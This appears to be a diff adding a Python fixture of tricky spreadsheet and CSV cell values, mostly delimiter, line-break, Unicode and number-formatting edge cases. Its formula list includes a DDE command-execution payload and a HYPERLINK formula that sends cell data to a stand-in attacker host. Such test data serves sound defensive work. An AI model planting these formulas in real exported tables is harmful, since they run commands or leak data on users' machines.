@@ -1,0 +1,38 @@
+"""Texts that a table may hold, and that programs which read tables are known to get wrong."""
+
+FORMULAS = (
+    "=1+1",
+    "+1",
+    "-1+2",
+    "@SUM(A1)",
+    "  =1",
+    "＝1",
+    "＋1",
+    "－1",
+    "＠x",
+    "\t=1",
+    "\rx",
+    "\nx",
+    "=cmd|'/c calc'!A1",
+    '=HYPERLINK("https://evil.example/?"&A1;"Look")',
+)
+TEXTS = (
+    'say "no"',
+    "a,b",
+    "a;b",
+    "ok;=1+1",
+    "a\tb",
+    "a\rb",
+    "a\nb",
+    "a\r\nb",
+    "a\n\nb",
+    "a\u2028b",
+    "\ufeffa",
+    " a ",
+    "3 March",
+    "1e5",
+    "00123",
+    "TRUE",
+    "NA",
+    "naïve 東京 𝕏",
+)
